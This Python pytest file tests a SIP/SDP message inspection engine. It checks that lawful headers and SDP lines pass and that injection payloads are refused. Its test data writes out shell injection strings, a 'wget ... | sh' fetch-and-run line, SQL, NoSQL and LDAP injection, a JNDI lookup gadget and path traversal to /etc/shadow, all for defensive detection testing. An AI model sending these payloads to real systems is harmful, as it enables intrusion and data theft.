"""What is lawful in header fields of no standard, lines of SDP and texts stays, but for what a list names; and what hides there is found."""

from __future__ import annotations

import base64
import random
import sys
from typing import Final

import pytest

from harness import ROOT

sys.path[:0] = [str(ROOT / "tests/detection")]

from embed import message  # noqa: E402
from evaluate import decide, engine, outcome  # noqa: E402
from lawful import PARTS, values, worst  # noqa: E402

GUARD = engine(text_bodies=True)
#: Of the half that is only counted, the share that may be touched; it may only be lowered.
MOST: Final = 0.06


def header(value: bytes, paranoia: int = 1) -> str:
    return outcome(decide(engine(paranoia, text_bodies=True), message(more=b"X-Foo: " + value + b"\r\n")))


def test_what_is_lawful_stays_but_for_what_the_list_names() -> None:
    found = [
        (value.kind, value.text) for value in values("develop") if (worst(GUARD, value) != "passed") != value.is_touched
    ]
    assert found == []


def test_of_what_was_set_aside_no_more_is_touched() -> None:
    outcomes = [worst(GUARD, value) for value in values("held-back")]
    assert len(outcomes) >= 670
    assert sum(what != "passed" for what in outcomes) / len(outcomes) <= MOST


def test_the_halves_share_no_text() -> None:
    one, other = ({value.text for value in values(part)} for part in PARTS)
    assert one.isdisjoint(other)


@pytest.mark.parametrize(
    "value",
    [
        b'10037;reason="x; touch pwn";source="gw"',
        b'10037;reason="x";touch pwn',
        b"10037;reason='x';reboot",
        b"a=1;b=$(reboot);c=2",
        b"a=1&b=x%3Btouch%20pwn%3B",
        b'{"a":{"b":"\'; touch pwn;\'"}}',
        b'{"a":"x\\u003btouch pwn\\u003b"}',
        b"{\"a\":\"1' or '1'='1\"}",
        b"{\"a\":1}';touch pwn;'",
        b"{\"a\":1}' or '1'='1",
        b'{"user":{"$gt":""}}',
        b'{"a":"{{7*7}}"}',
        b'{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://192.0.2.1/x"}',
        b"%7B%22a%22%3A%22x%27%3B%20touch%20pwn%3B%27%22%7D",
        b"http://a.example/?a=1&b=x;touch+pwn;",
        b"http://a.example/?a=1;touch+pwn;",
        b"http://h/?%24%28reboot%29=1",
        b"http://h/?a%5B%24%28id%29%5D=1",
        b"http://h/?x%3Bwget%20h%2Fa%7Csh=1",
        b"http://h/?%60reboot%60=1",
        b"http://h/?a=1&%3Breboot%3B=1",
        b"http://h/?%27%3BDROP%20TABLE%20x%3B--=1",
        b"http://h/?1%20union%20select%20password%20from%20subscriber=1",
        b"http://h/?%2A%29%28uid%3D%2A%29%29%28%7C%28uid=1",
        "\uff04\uff08reboot\uff09=1;b=2".encode(),
        "\uff40reboot\uff40=1;b=2".encode(),
        "\uff07or\uff071\uff07\uff1d\uff071=1;b=2".encode(),
        b"/var/lib/asterisk/agi-bin/x",
        b"/var/lib/asterisk/keys/a",
        b"/var/spool/asterisk/monitor/../../../../etc/shadow",
        b"/var/spool/asterisk/monitor/4711.wav;touch pwn",
        b"/var/spool/asterisk/monitor/$(id).wav",
        b"file:///etc/passwd",
        b"/opt/app/settings.php",
        b"\\\\192.0.2.1\\share\\x",
        b"--output pwn",
    ],
)
@pytest.mark.parametrize("paranoia", [1, 2, 3])
def test_what_hides_in_a_form_of_programs_is_found(value: bytes, paranoia: int) -> None:
    assert header(value, paranoia) != "passed"


@pytest.mark.parametrize("place", [b"From: <sip:%s@h>;tag=1\r\n", b"X-Foo: %s\r\n"])
def test_a_users_list_of_parameters_is_no_form_of_programs(place: bytes) -> None:
    """Where no such form belongs, marks are read as before."""
    raw = message(more=place % b'x";reboot;a="b')
    assert outcome(decide(GUARD, raw)) == "refused"


def test_many_keys_of_srtp_cost_nothing_and_hide_nothing() -> None:
    chance = random.Random(5)
    keys = [
        b"a=crypto:%d AES_CM_128_HMAC_SHA1_80 inline:%s|2^20|1:4\r\n" % (number, base64.b64encode(chance.randbytes(30)))
        for number in range(1, 200)
    ]
    start = b"v=0\r\no=- 1 1 IN IP4 192.0.2.4\r\ns=-\r\nc=IN IP4 192.0.2.4\r\nt=0 0\r\nm=audio 40000 RTP/SAVP 0\r\n"
    kind = b"Content-Type: application/sdp\r\n"
    assert outcome(decide(GUARD, message(more=kind, body=start + b"".join(keys)))) == "passed"
    for bad in (
        b"a=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:$(reboot)|2^20\r\n",
        b"a=crypto:1|reboot\r\n",
        b"a=x:$(reboot)\r\n",
        b"a=identity:x;reboot\r\n",
        b"a=identity:/etc/passwd\r\n",
    ):
        assert outcome(decide(GUARD, message(more=kind, body=start + b"".join(keys) + bad))) == "refused", bad


def test_a_message_within_a_message_has_header_fields_of_its_own() -> None:
    body = b"From: <sip:a@example.com>\r\nTo: <sip:b@example.com>\r\n\r\nContent-Type: text/plain\r\nContent-Length: 12\r\n\r\n%s"
    for kind in (b"message/cpim", b"message/cpim;charset=utf-8", b"text/plain"):
        more = b"Content-Type: " + kind + b"\r\n"
        assert outcome(decide(GUARD, message(method=b"MESSAGE", more=more, body=body % b"See you at 5"))) == "passed"
        for bad in (b"$(reboot)", b"' or 1=1--", b"x; touch pwn;"):
            assert outcome(decide(GUARD, message(method=b"MESSAGE", more=more, body=body % bad))) != "passed", bad


def test_lines_beyond_those_read_one_by_one_are_read_as_lines() -> None:
    """They come as one value, in which a line's end is no separator of a shell."""
    lines = (
        b"".join(b"a=x-item%d:{%d}\r\n" % (number, number) for number in range(70))
        + b"a=mid:b\r\ni=call & co\r\na=x:1;2\r\n"
    )
    start = b"v=0\r\no=- 1 1 IN IP4 192.0.2.4\r\ns=-\r\nc=IN IP4 192.0.2.4\r\nt=0 0\r\nm=audio 40000 RTP/AVP 0\r\n"
    kind = b"Content-Type: application/sdp\r\n"
    assert outcome(decide(GUARD, message(more=kind, body=start + lines))) == "passed"
    assert outcome(decide(GUARD, message(more=kind, body=start + lines + b"a=y:';touch pwn;'\r\n"))) == "refused"
